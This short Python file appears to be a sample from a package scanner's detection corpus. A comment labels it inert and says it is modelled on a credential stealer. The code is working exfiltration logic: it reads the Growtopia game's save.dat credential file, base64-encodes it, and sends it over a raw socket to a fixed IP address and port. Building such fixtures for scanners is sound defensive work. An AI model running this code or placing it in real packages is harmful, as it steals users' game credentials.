# pkgguard corpus 821 (credentials), modelled on [stealer-profile]; inert, never run.
import base64
import os
import socket

save = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Growtopia", "save.dat")
if os.path.exists(save):
    with open(save, "rb") as fh:
        blob = base64.b64encode(fh.read())
    with socket.create_connection(("100.64.12.40", 9001), timeout=10) as conn:
        conn.sendall(blob + b"\n")
